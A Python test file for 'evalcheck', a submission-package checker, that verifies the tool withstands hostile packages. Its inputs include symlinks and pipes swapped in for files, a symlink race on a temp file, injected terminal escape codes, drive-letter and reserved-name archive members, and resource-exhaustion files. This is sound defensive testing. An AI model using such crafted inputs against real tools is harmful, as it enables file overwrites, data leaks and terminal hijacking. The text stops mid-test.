"""What a package cannot do to whoever opens it, by any command: docs/robustness.md lists the attacks and these tests."""

from __future__ import annotations

import contextlib
import errno
import io
import json
import os
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote

import click
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from PIL import Image

import evalcheck
from evalcheck.audit import sheets
from evalcheck.audit.store import Store
from evalcheck.checks.rows import WRONG_PHONE
from evalcheck.checks.serials import BROKEN_SERIAL
from evalcheck.cli import show
from evalcheck.cli.app import ending, problem, run
from evalcheck.engine import validate
from evalcheck.findings import Location, masked
from evalcheck.masking import swept
from evalcheck.prepare import annotate
from evalcheck.reporters import REPORTERS
from evalcheck.reporters.options import RenderOptions
from evalcheck.ruleset import load_ruleset
from evalcheck.submission import child, leftovers, ordinary
from evalcheck.submission.intake import open_submission
from evalcheck.submission.leftovers import private_folder, remove_leftovers, settle_on_a_folder
from evalcheck.submission.limits import MB, Limits
from evalcheck.submission.member_names import as_windows_takes_it
from evalcheck.words import Say
from tests.hostile import nested_forms
from tests.packages import document, workbook

DAY = date(2022, 5, 30)
LIST = "市级市税务局-优化纳税服务-25-企业名单.xlsx"
HEADER = ["序号", "区域", "企业名称", "统一社会信用代码", "联系人", "手机号码", "业务描述", "备注"]
ROW = [1, "和平区", "测试一有限公司", "91120101MA05U0F53T", "赵测一", "1380000", "申报", None]
linux = pytest.mark.skipif(child.START_METHOD != "fork", reason="CPU and memory limits are those of Linux")
posix = pytest.mark.skipif(os.name == "nt", reason="pipes, links and modes of POSIX")


def listed(change: Callable[[str, bytes], bytes] = lambda name, data: data, more: dict[str, bytes] | None = None) -> bytes:
    """A list with one wrong phone, its parts changed."""
    made = workbook({"Sheet1": [["企业全量样本表"], ["部门:市税务局", None, "联系人:林测一", None, "手机号码:13800000001"], HEADER, ROW]})
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as book, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name in book.namelist():
            target.writestr(name, change(name, book.read(name)))
        for name, data in (more or {}).items():
            target.writestr(name, data)
    return stream.getvalue()


def copies(root: Path, data: bytes) -> list[annotate.Copy]:
    root.mkdir()
    (root / LIST).write_bytes(data)
    report = evalcheck.validate(root, as_of=DAY, unit="市税务局")
    return list(annotate.annotated(report, open_submission([root], Limits()), RenderOptions(), Limits()))


def merged(*areas: str) -> bytes:
    cells = "".join(f'<mergeCell ref="{area}"/>' for area in areas)
    end = f'</sheetData><mergeCells count="{len(areas)}">{cells}</mergeCells>'.encode()
    return listed(lambda name, data: data.replace(b"</sheetData>", end) if "sheet1.xml" in name else data)


@pytest.mark.parametrize("areas", [("M1:XFD1048576",), ("A9:Z9999", "AA9:AZ9999"), ("M:M",)], ids=["whole sheet", "two", "column"])
def test_a_merged_area_to_the_end_of_the_sheet_is_named_and_not_copied(areas: tuple[str, ...], tmp_path: Path) -> None:
    (copy,) = copies(tmp_path / "材料", merged(*areas))
    assert copy.marked == 0 and copy.findings and ("合并单元格" in copy.message or "无法照样复制" in copy.message)


def test_merged_areas_as_people_make_them_are_copied(tmp_path: Path) -> None:
    (copy,) = copies(tmp_path / "材料", merged("A1:H1", "A9:H20", "J1:L400"))
    assert copy.marked and copy.message.startswith("图片")


def test_a_hundred_thousand_comments_are_named_and_not_copied(tmp_path: Path) -> None:
    notes = "".join(f'<comment ref="A{n}" authorId="0"><text><t>x</t></text></comment>' for n in range(1, 100_001))
    (copy,) = copies(
        tmp_path / "材料", listed(more={"xl/comments1.xml": f"<comments><commentList>{notes}</commentList></comments>".encode()})
    )
    assert copy.marked == 0 and "批注超过" in copy.message


def test_a_table_as_wide_as_a_sheet_is_copied_within_the_bounds(tmp_path: Path) -> None:
    wide = Workbook(write_only=True)
    sheet = wide.create_sheet("很宽")
    for _ in range(2):
        sheet.append(range(16_384))
    stream = io.BytesIO()
    wide.save(stream)
    (tmp_path / "材料").mkdir()
    (tmp_path / "材料" / LIST).write_bytes(stream.getvalue())
    assert run(["annotate", str(tmp_path / "材料"), "-o", str(tmp_path / "out"), "--as-of", "2022-05-30"]) == 0


def spin(*args: object) -> None:
    while True:
        pass


@linux
def test_annotate_gives_up_a_workbook_that_takes_too_long_and_lists_its_findings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # fmt: skip
    monkeypatch.setattr(annotate, "_opened", spin)
    (tmp_path / "材料").mkdir()
    (tmp_path / "材料" / LIST).write_bytes(listed())
    report = evalcheck.validate(tmp_path / "材料", as_of=DAY, unit="市税务局")
    given = replace(Limits(), cpu_seconds=0.3)
    (copy,) = annotate.annotated(report, open_submission([tmp_path / "材料"], given), RenderOptions(), given)
    assert copy.marked == 0 and "时间上限" in copy.message and copy.findings


@linux
def test_show_gives_up_a_file_that_crashes_its_reader_and_shows_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:  # fmt: skip
    real = show.examine

    def examine(file: object, *rest: object) -> object:
        if "坏" in file.path:  # type: ignore[attr-defined]
            os.abort()
        return real(file, *rest)  # type: ignore[arg-type]

    monkeypatch.setattr(show, "examine", examine)
    (tmp_path / "材料").mkdir()
    for name in ("坏文件.txt", "好文件.txt"):
        (tmp_path / "材料" / name).write_text("全民健身工作", "utf-8")
    assert run(["show", str(tmp_path / "材料"), "--lang", "zh"]) == 0
    shown = capsys.readouterr().out
    assert "异常终止" in shown and "全民健身工作" in shown.partition("好文件")[2]


@linux
def test_a_filled_in_sheet_that_never_ends_is_given_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "_lines", spin)
    monkeypatch.setattr(sheets, "Limits", lambda: replace(Limits(), cpu_seconds=0.3))
    (tmp_path / "抽样名单.xlsx").write_bytes(listed())
    with pytest.raises(sheets.TableUnreadable, match="CPU limit"):
        sheets.read_rows(tmp_path / "抽样名单.xlsx", ("区域",))


def test_copies_are_made_in_no_more_than_a_gigabyte() -> None:
    assert annotate._MEMORY <= 1024 * MB


NAME = "市级市税务局-优化纳税服务-25-工作佐证.{}"


def special(place: Path, kind: str) -> None:
    place.parent.mkdir(parents=True, exist_ok=True)
    if kind == "pipe":
        os.mkfifo(place)
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as one:
            here = os.getcwd()
            os.chdir(place.parent)  # the name of a socket is short
            one.bind(place.name)
            os.chdir(here)
    elif kind == "link to a file":
        (place.parent.parent / "别人的.txt").write_text("不该读到的内容", "utf-8")
        place.symlink_to("../别人的.txt")
    else:
        (place.parent.parent / "别人").mkdir(exist_ok=True)
        (place.parent.parent / "别人" / "别人的.txt").write_text("不该读到的内容", "utf-8")
        place.symlink_to("../别人")


KINDS = ["pipe", "socket", "link to a file", "link to a folder"]


@posix
@pytest.mark.parametrize("kind", KINDS)
def test_what_is_no_ordinary_file_is_fil009_and_never_opened(kind: str, tmp_path: Path) -> None:
    special(tmp_path / "材料" / NAME.format("pdf"), kind)
    report = evalcheck.validate(tmp_path / "材料", as_of=DAY)
    assert [f.location.file for f in report.findings if f.code == "FIL009"] == [NAME.format("pdf")]
    assert not report.files and report.verdict == "fail"


@posix
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("command", ["show", "todo", "fix", "pack", "annotate", "diff"])
def test_no_command_waits_for_a_pipe_or_follows_a_link(
    command: str, kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:  # fmt: skip
    root = tmp_path / "材料"
    special(root / NAME.format("txt"), kind)
    (root / "说明.txt").write_text("全民健身工作", "utf-8")
    more = {"pack": ["--force", "-o", str(tmp_path / "out")], "annotate": ["-o", str(tmp_path / "out")], "diff": [str(root)]}
    assert run([command, str(root), *more.get(command, [])]) in (0, 1, 3)
    shown = capsys.readouterr()
    assert "不该读到的内容" not in shown.out + shown.err
    for made in (tmp_path / "out").rglob("*.zip"):
        with zipfile.ZipFile(made) as packed:
            assert not [name for name in packed.namelist() if "别人" in name or "工作佐证" in name]


@posix
@pytest.mark.parametrize("kind", KINDS)
def test_a_parcel_of_the_inbox_that_is_no_file_or_folder_is_refused(kind: str, tmp_path: Path) -> None:
    special(tmp_path / "inbox" / "市税务局报送.zip", kind)
    assert run(["audit", str(tmp_path / "inbox"), "-o", str(tmp_path / "out"), "--as-of", "2022-05-30"]) == 1
    report = (tmp_path / "out" / "packages" / "市税务局.json").read_text("utf-8")
    assert '"FIL009"' in report and "不该读到的内容" not in report


@posix
def test_a_file_that_becomes_a_pipe_or_a_link_after_it_was_counted_is_not_waited_for(tmp_path: Path) -> None:
    root = tmp_path / "材料"
    root.mkdir()
    for name in (NAME.format("txt"), NAME.format("pdf")):
        (root / name).write_text("全民健身工作", "utf-8")
    given = open_submission([root], Limits())
    for file, kind in zip(given.files, ("pipe", "link to a file"), strict=True):
        (root / file.name).unlink()
        special(root / file.name, kind)
    report = validate(given, load_ruleset(), DAY)
    assert sorted(f.location.file or "" for f in report.findings if f.code == "FIL009") == [file.path for file in given.files]


def ends(argv: list[str]) -> int:
    return run(["validate", argv[0], "--as-of", "2022-05-30", "--format", "json", *argv[1:]])


@posix
def test_a_report_onto_a_device_or_pipe_goes_through_it(tmp_path: Path) -> None:
    root = tmp_path / "材料"
    root.mkdir()
    assert ends([str(root), "-o", "/dev/null"]) == 1
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    os.mkfifo(tmp_path / "pipe")
    with ThreadPoolExecutor(1) as pool:
        read = pool.submit((tmp_path / "pipe").read_bytes)
        assert ends([str(root), "-o", str(tmp_path / "pipe")]) == 1
        assert b"evalcheck-report/1" in read.result(20) and (tmp_path / "pipe").is_fifo()


@posix
def test_a_report_onto_a_link_goes_to_its_target_and_the_link_stays(tmp_path: Path) -> None:
    root, link, target = tmp_path / "材料", tmp_path / "最新.json", tmp_path / "旧" / "a.json"
    root.mkdir(), target.parent.mkdir()
    link.symlink_to("旧/a.json")
    assert ends([str(root), "-o", str(link)]) == 1 and link.is_symlink() and b"report/1" in target.read_bytes()
    target.write_text("x")
    assert ends([str(root), "-o", str(link)]) == 2 and target.read_text() == "x"
    assert ends([str(root), "-o", str(link), "--force"]) == 1 and link.is_symlink() and b"report/1" in target.read_bytes()
    link.unlink(), link.symlink_to("最新.json")
    assert ends([str(root), "-o", str(link), "--force"]) == 2 and link.is_symlink()


@posix
def test_force_replaces_ordinary_files_only(tmp_path: Path) -> None:
    root = tmp_path / "材料"
    root.mkdir()
    special(tmp_path / "x" / "s", "socket")
    assert ends([str(root), "-o", str(tmp_path / "x" / "s"), "--force"]) == 2
    assert ends([str(root), "-o", str(tmp_path / "x"), "--force"]) == 2
    assert stat.S_ISSOCK(os.stat(tmp_path / "x" / "s").st_mode)


@posix
def test_a_link_laid_where_our_half_written_file_will_be_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "材料").mkdir()
    (tmp_path / "victim").write_text("x")
    (tmp_path / f".a.json.{os.getpid()}.tmp").symlink_to("victim")
    assert ends([str(tmp_path / "材料"), "-o", str(tmp_path / "a.json")]) == 1
    assert (tmp_path / "victim").read_text() == "x" and b"report/1" in (tmp_path / "a.json").read_bytes()


ACTING = "\x1b]0;pwned\x07\x1b[2J\x9b31m"


@pytest.mark.parametrize("form", ["terminal", "json"])
def test_diff_prints_no_control_code_of_a_report_wherever_it_stands(form: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "材料").mkdir()
    assert ends([str(tmp_path / "材料"), "-o", str(tmp_path / "a.json")]) == 1

    def spoilt(value: object) -> object:
        if isinstance(value, dict):
            return {key: held if key == "schema" else spoilt(held) for key, held in value.items()}
        return [spoilt(held) for held in value] if isinstance(value, list) else value + ACTING if isinstance(value, str) else value

    whole = json.loads((tmp_path / "a.json").read_bytes())
    (tmp_path / "b.json").write_text(json.dumps(spoilt(whole)), "utf-8")
    capsys.readouterr()
    assert run(["diff", str(tmp_path / "a.json"), str(tmp_path / "b.json"), "--format", form]) in (0, 2)
    shown = capsys.readouterr()
    assert not set("\x1b\x07\x9b") & set(shown.out + shown.err)


def test_a_wrong_call_prints_no_control_code(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["validate", f"材料{ACTING}"]) == 2 and run(["explain", ACTING]) == 2
    assert not set("\x1b\x07\x9b") & set(capsys.readouterr().err)


def test_the_store_keeps_no_deleted_rows_and_no_log_beside_it(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    store.keep_meta("secret", "13800001234" * 500)
    store.db.execute("DELETE FROM meta WHERE key='secret'")
    store.close()
    assert [path.name for path in (tmp_path / "store").glob("audit.sqlite*")] == ["audit.sqlite"]
    assert b"13800001234" not in (tmp_path / "store" / "audit.sqlite").read_bytes()


PERSON = "12010419880212713X"
MOBILE = "13800001234"


def test_messages_of_the_library_mask_and_show_when_asked() -> None:
    finding = WRONG_PHONE.at(Location("a.xlsx", "S", "F4"), column="手机号码", count=1, rows="4", first="赵测一 138000012345")
    assert "赵测一" not in finding.message() and "138000012345" not in finding.message()
    assert "赵测一" in masked(finding, show_personal=True).message()
    assert masked(masked(finding)).message() == finding.message()


@pytest.mark.parametrize(
    ("cell", "seen"),
    [
        ("赵测一", False), ("李试乙丙", False), ("王明", False), ("裴试乙", False), ("欧阳试丙", False), ("司马试", False),
        ("聂试丁", False),
        ("裴试乙120106197703052820", False), ("聂试丁 1392001", False),
        ("齐全", True), ("项目清单", True), ("曲线图", True), ("曲线", True), ("华苑12345678", True),
        ("王明" + "、" * 32_000 + "x", True),  # as long as a cell can be: it is not searched
        ("和平区", True), ("滨海新城", True), ("王顶堤街", True), ("江西省", True), ("火星区", True), ("华苑", True), ("甲", True),
        ("测试一有限公司", True), ("91120101MA05U0F53T", True), ("2022年5月", True), ("", True),
    ],
)  # fmt: skip
def test_a_person_s_name_in_a_wrong_column_is_masked_and_a_place_is_not(cell: str, seen: bool) -> None:
    finding = BROKEN_SERIAL.at(Location("a.xlsx", "S", "A4"), column="序号", count=1, rows="4", first=cell, right="1")
    assert (f"“{cell}”" in finding.message()) is seen


@pytest.mark.parametrize("form", ["terminal", "json", "sarif", "html", "csv", "junit", "github"])
def test_numbers_of_persons_in_names_of_files_are_masked_in_every_form(form: str, tmp_path: Path) -> None:
    (tmp_path / f"证明{PERSON}.txt").write_text("x", "utf-8")
    (tmp_path / f"联系{MOBILE}-zhang.li@example.com.txt").write_text("y", "utf-8")
    report = evalcheck.validate(tmp_path, as_of=DAY)
    shown = unquote(REPORTERS[form](report, RenderOptions()))
    assert PERSON not in shown and MOBILE not in shown and "zhang.li" not in shown and "证明" in shown
    assert MOBILE in unquote(REPORTERS[form](report, RenderOptions(show_personal=True)))
    assert {file.file.name for file in report.files} >= {f"证明{PERSON}.txt"}


@pytest.mark.parametrize("form", ["terminal", "json", "sarif", "html", "csv", "junit", "github"])
def test_numbers_of_persons_in_names_of_sheets_are_masked_in_every_form(form: str, tmp_path: Path) -> None:
    rows = [["企业全量样本表"], ["部门:市税务局", None, "联系人:林测一", None, "手机号码:13800000001"], HEADER, ROW]
    (tmp_path / LIST).write_bytes(workbook({PERSON: rows}))
    report = evalcheck.validate(tmp_path, as_of=DAY)
    assert any(finding.location.part == PERSON for finding in report.findings)
    assert PERSON not in unquote(REPORTERS[form](report, RenderOptions()))


def test_what_an_audit_writes_for_people_and_programs_masks_numbers_of_persons_in_names_of_files(tmp_path: Path) -> None:
    (tmp_path / "收件" / "市税务局").mkdir(parents=True)
    (tmp_path / "收件" / "市税务局" / f"市级市税务局-优化纳税服务-25-{PERSON}.docx").write_bytes(document("推动情况"))
    run(["audit", str(tmp_path / "收件"), "-o", str(tmp_path / "汇总"), "--as-of", "2022-05-27"])
    for path in (tmp_path / "汇总").rglob("*"):
        if path.is_file() and path.suffix in (".json", ".html", ".docx", ".xlsx", ".sarif") and "store" not in path.parts:
            assert PERSON not in _words_in(path), path.name


def _words_in(path: Path) -> str:
    if not zipfile.is_zipfile(path):
        return unquote(path.read_text("utf-8"))
    with zipfile.ZipFile(path) as parts:
        return "".join(parts.read(name).decode("utf-8", "replace") for name in parts.namelist())


def test_a_baseline_matches_findings_of_files_whose_names_are_masked(tmp_path: Path) -> None:
    (tmp_path / "材料").mkdir()
    (tmp_path / "材料" / f"证明{PERSON}.txt").write_text("x", "utf-8")
    assert ends([str(tmp_path / "材料"), "-o", str(tmp_path / "a.json")]) == 1
    assert ends([str(tmp_path / "材料"), "-o", str(tmp_path / "b.json"), "--baseline", str(tmp_path / "a.json")]) == 1
    assert json.loads((tmp_path / "b.json").read_bytes())["baseline"]["counts"]["new"] == 0


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("C:x.docx", "C_x.docx"), ("a:stream", "a_stream"), ("名单.xlsx:Zone", "名单.xlsx_Zone"), ("名单.docx. .", "名单.docx"),
        ("名单.docx ", "名单.docx"), ("CON", "_CON"), ("con.docx", "_con.docx"), ("NUL .txt", "_NUL .txt"), ("COM1.xlsx", "_COM1.xlsx"),
        ("lpt9", "_lpt9"), ("..", "_"), ("", "_"), ("a/../b", "a_.._b"), ("\x00\x1f", "__"), ("CONIN$", "_CONIN$"),
        ("市级市税务局-优化纳税服务-25-名单.xlsx", "市级市税务局-优化纳税服务-25-名单.xlsx"), ("CONTENT.docx", "CONTENT.docx"),
        ("COM10.txt", "COM10.txt"), (".hidden", ".hidden"), ("a  b.txt", "a  b.txt"), ("nul-说明.docx", "nul-说明.docx"),
    ],
)  # fmt: skip
def test_names_are_written_as_windows_takes_them(name: str, written: str) -> None:
    assert as_windows_takes_it(name) == written and as_windows_takes_it(written) == written


@pytest.mark.parametrize("name", ["a/C:x.docx", "C:x.docx", "a/b/z:/y.docx", "a\\C:x.docx"])
def test_a_member_that_leads_to_a_drive_is_refused_wherever_the_letter_stands(name: str, tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as packed:
        packed.writestr(name, "x"), packed.writestr("a/比例1:2.txt", "y")
    report = evalcheck.validate(tmp_path / "a.zip", as_of=DAY)
    assert [f.code for f in report.findings].count("FIL009") == 1 and len(report.files) == 1


@posix
@pytest.mark.parametrize("name", ["a/C:x.docx", "con.txt", "名单.txt.", "说明.txt:流", "a /x.txt"])
def test_pack_refuses_names_that_windows_would_unpack_elsewhere(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "材料" / name).parent.mkdir(parents=True)
    (tmp_path / "材料" / name).write_text("x", "utf-8")
    assert run(["pack", str(tmp_path / "材料"), "--force", "-o", str(tmp_path / "out"), "--lang", "zh"]) == 2
    assert "Windows" in capsys.readouterr().err and not list((tmp_path / "out").glob("*.zip"))


@posix
def test_annotate_writes_names_as_windows_takes_them(tmp_path: Path) -> None:
    (tmp_path / "材料").mkdir()
    (tmp_path / "材料" / "CON.xlsx").write_bytes(listed())
    (tmp_path / "材料" / "C:名单.xlsx").write_bytes(listed())
    assert run(["annotate", str(tmp_path / "材料"), "-o", str(tmp_path / "out"), "--unit", "市税务局"]) == 0
    names = {path.name for path in (tmp_path / "out").iterdir()}
    assert all(as_windows_takes_it(name) == name for name in names) and len(names) == 2


def slow_package(root: Path) -> Path:
    """A tar whose picture takes some seconds to look at."""
    root.mkdir()
    stream = io.BytesIO()
    Image.effect_noise((2600, 2600), 90).convert("RGB").save(stream, "PNG", compress_level=0)
    with tarfile.open(root / "材料.tar", "w") as packed:
        for number in range(6):
            info = tarfile.TarInfo(f"照片{number}.png")
            info.size = len(stream.getvalue())
            packed.addfile(info, io.BytesIO(stream.getvalue()))
    return root / "材料.tar"


def until(what: Callable[[], object], seconds: float = 30) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if what():
            return True
        time.sleep(0.02)
    return False


def alive(session: int) -> list[int]:
    """Processes of a session that are no zombies."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                state, _, _, own = (entry / "stat").read_bytes().rpartition(b")")[2].split()[:4]
                found += [int(entry.name)] if int(own) == session and state not in (b"Z", b"X") else []
    return found


@linux
@pytest.mark.parametrize("name", ["SIGTERM", "SIGHUP", "SIGINT", "SIGKILL"])
def test_no_worker_and_no_unpacked_file_outlives_its_command(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    package, temp = slow_package(tmp_path / "p"), tmp_path / "temp"
    temp.mkdir()
    environment = {**os.environ, "TMPDIR": str(temp), "PYTHONPATH": os.pathsep.join(sys.path)}
    command = [sys.executable, "-m", "evalcheck", "validate", str(package)]
    with subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True) as one:
        assert until(lambda: len(list(temp.glob("evalcheck-*/*/*"))) == 6 and len(alive(one.pid)) > 1)
        assert all(stat.S_IMODE(folder.stat().st_mode) == 0o700 for folder in temp.iterdir())
        one.send_signal(getattr(signal, name))
        one.wait(30)
        assert until(lambda: not alive(one.pid), 10)
    if name == "SIGKILL":
        assert list(temp.iterdir())
        monkeypatch.setattr(tempfile, "tempdir", str(temp))
        remove_leftovers.cache_clear()
        remove_leftovers()
    assert not list(temp.iterdir())


@posix
def test_a_signal_that_comes_while_something_is_tidied_away_is_not_lost() -> None:
    class Tidied:
        def __del__(self) -> None:
            os.kill(os.getpid(), signal.SIGTERM)

    with pytest.raises(SystemExit) as left, ending():
        Tidied()
        until(lambda: False, 10)
    assert left.value.code == 128 + signal.SIGTERM


@posix
def test_what_was_half_made_when_a_signal_came_is_no_error_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    class HalfMade:
        def __del__(self) -> None:
            raise AttributeError("it has no key yet")

    with pytest.raises(SystemExit), ending():
        try:
            os.kill(os.getpid(), signal.SIGTERM)
        finally:
            HalfMade()
    assert capsys.readouterr().err == ""


@linux
def test_only_what_dead_processes_of_this_user_left_is_removed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with private_folder() as mine:
        here, own = Path(mine), Path(mine).name.rsplit("-", 1)[0]
        pid, started, space = own.split("-")[1:]
        dead = f"evalcheck-{pid}-{int(started) + 1}-{space}-abcdefgh"
        others = [f"evalcheck-1-2-{int(space) + 1}-abcdefgh", "evalcheck-notes", "other"]
        for name in (dead, *others):
            (tmp_path / name).mkdir()
        (tmp_path / "target").mkdir()
        (tmp_path / f"evalcheck-999999-1-{space}-abcdefgh").symlink_to(tmp_path / "target")
        remove_leftovers.cache_clear()
        remove_leftovers()
        assert here.is_dir() and not (tmp_path / dead).exists() and (tmp_path / "target").is_dir()
        assert all((tmp_path / name).is_dir() for name in others)


@pytest.mark.parametrize(
    ("number", "words"),
    [(errno.EACCES, "没有权限"), (errno.ENOSPC, "磁盘已满"), (errno.EROFS, "只读"), (errno.ENAMETOOLONG, "名称太长"), (9999, "odd")],
)
def test_what_the_system_refuses_is_told_as_what_it_is(
    number: int, words: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:  # fmt: skip
    def refuse(*args: object, **more: object) -> None:
        raise OSError(number, "odd", "盘/文件")

    monkeypatch.setattr("evalcheck.cli.validate.validate", refuse)
    assert run(["validate", str(tmp_path), "--lang", "zh"]) == 3
    told = capsys.readouterr().err
    assert words in told and "盘/文件" in told and "自身出错" not in told


def test_an_interrupted_audit_names_how_to_go_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupt(*args: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("evalcheck.cli.audit.judge_inbox", interrupt)
    (tmp_path / "inbox").mkdir()
    assert run(["audit", str(tmp_path / "inbox"), "-o", str(tmp_path / "out")]) == 130 and "--resume" in capsys.readouterr().err


def test_a_broken_store_and_one_of_another_version_are_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "inbox").mkdir()
    (tmp_path / "inbox" / "a.txt").write_text("x", "utf-8")
    argv = ["audit", str(tmp_path / "inbox"), "-o", str(tmp_path / "out"), "--as-of", "2022-05-30", "--lang", "zh"]
    assert run(argv) != 2 and "别的版本" not in capsys.readouterr().out
    store = Store(tmp_path / "out" / "store")
    store.keep_meta("schema", 1)
    store.close()
    assert run(argv) != 2 and "别的版本" in capsys.readouterr().out
    (tmp_path / "out" / "store" / "audit.sqlite").write_bytes(b"no database at all" * 100)
    assert run(argv) == 2 and "已损坏" in capsys.readouterr().err


@linux
@pytest.mark.parametrize(("command", "end"), [("validate", b"%/EmbeddedFile\n"), ("show", b"")])
def test_a_pdf_of_nested_forms_takes_little_time_and_memory(command: str, end: bytes, tmp_path: Path) -> None:
    (tmp_path / "材料").mkdir()
    data = nested_forms(6, 20) + end
    (tmp_path / "材料" / NAME.format("pdf")).write_bytes(data)
    # Asked of a small process between: one that this one starts counts what pytest itself had taken before as its own.
    program = (
        "import resource, subprocess, sys; subprocess.run(sys.argv[1:]); used = resource.getrusage(resource.RUSAGE_CHILDREN); "
        "print(used.ru_utime + used.ru_stime, used.ru_maxrss, file=sys.stderr)"
    )
    argv = [sys.executable, "-c", program, sys.executable, "-m", "evalcheck", command, str(tmp_path / "材料")]
    done = subprocess.run(argv, capture_output=True)
    told = done.stdout.decode("utf-8")
    seconds, kilobytes = map(float, done.stderr.split()[-2:])
    assert len(data) < 2000 and ("FIL015" in told or "未能检查" in told or "内存" in told)
    assert seconds < 10 and kilobytes < 1_000_000


def test_archives_are_unpacked_until_the_package_s_time_is_spent(tmp_path: Path) -> None:
    for name in ("a.7z", "b.7z"):
        (tmp_path / name).write_bytes((Path(__file__).parent / "fixtures" / "formats" / "solid.7z").read_bytes())
    report = evalcheck.validate(tmp_path, as_of=DAY, limits={"package_cpu_seconds": 1e-6})
    (told,) = [one for one in report.findings if one.code == "FIL015" and one.location.file == "b.7z"]
    assert "解包时间已用完" in told.message()


@pytest.mark.parametrize(
    ("name", "zh", "en"),
    [
        ("SQLITE_FULL", "磁盘已满", "the disk is full"),
        ("SQLITE_READONLY_DBMOVED", "没有权限", "no permission"),
        ("SQLITE_CANTOPEN", "没有权限", "no permission"),
        ("SQLITE_IOERR_WRITE", "磁盘出错", "the disk failed"),
        ("SQLITE_BUSY", "另一个汇总正在使用", "another audit is using it"),
        ("SQLITE_CORRUPT", "已损坏", "is broken"),
    ],
)
@pytest.mark.parametrize("command", ["audit", "sample"])
def test_what_befalls_the_store_at_any_moment_is_told_as_what_it_is(
    command: str, name: str, zh: str, en: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:  # fmt: skip
    def refuse(*args: object, **more: object) -> None:
        error = sqlite3.OperationalError("x")
        error.sqlite_errorname = name
        raise error

    out = tmp_path / "out"
    (tmp_path / "inbox").mkdir()
    (out / "store").mkdir(parents=True)
    (out / "store" / "audit.sqlite").touch()
    monkeypatch.setattr(f"evalcheck.cli.{command}.{'judge_inbox' if command == 'audit' else 'Store'}", refuse)
    argv = ["audit", str(tmp_path / "inbox"), "-o", str(out)] if command == "audit" else ["sample", str(out), "--size", "5", "--seed", "1"]
    for language, words in (("zh", zh), ("en", en)):
        assert run([*argv, "--lang", language]) == 2
        told = capsys.readouterr().err
        assert words in told and "audit.sqlite" in told and "自身出错" not in told and "itself failed" not in told


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("Path '/a b' is not readable.", "/a b 没有权限读取"),
        ("Directory 'x' does not exist.", "x 不存在"),
        ("File 'x' is a directory.", "x 是文件夹"),
        ("something else", "something else"),
    ],
)
def test_what_click_says_of_a_path_is_told_in_the_reader_s_language(said: str, told: str) -> None:
    assert told in problem(click.BadParameter(said), Say("zh"))
    assert said in problem(click.BadParameter(said), Say("en"))


@pytest.mark.parametrize(("language", "words"), [("zh", "没有权限"), ("en", "no permission")])
def test_a_folder_that_may_not_be_written_is_told_with_the_remedy_by_every_command_that_writes(
    language: str, words: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:  # fmt: skip
    def refuse(*args: object, **more: object) -> None:
        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path / "x"))

    (tmp_path / "材料").mkdir()
    (tmp_path / "材料" / "市级市税务局_优化纳税服务_25_政策文件.txt").write_text("x", "utf-8")
    calls = {
        "evalcheck.cli.init.set_up": ["init", str(tmp_path / "new"), "--unit", "市税务局"],
        "evalcheck.prepare.journal.Journal.write": ["fix", str(tmp_path / "材料"), "--apply"],
        "evalcheck.prepare.journal._move": ["fix", str(tmp_path / "材料"), "--apply"],
    }
    for place, argv in calls.items():
        with monkeypatch.context() as patched:
            patched.setattr(place, refuse)
            assert run([*argv, "--lang", language, *(["--as-of", "2022-05-28"] if argv[0] == "fix" else [])]) == 2
        told = capsys.readouterr().err
        assert words in told and "Permission denied" not in told, place


@posix
def test_no_temporary_folder_is_tried_out_by_a_file_that_could_be_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "_get_default_tempdir", lambda: pytest.fail("tried out"))
    for first, second, found in ((tmp_path, "", tmp_path), (tmp_path / "none", tmp_path, tmp_path), ("", "", Path("/tmp"))):
        monkeypatch.setattr(tempfile, "tempdir", None)
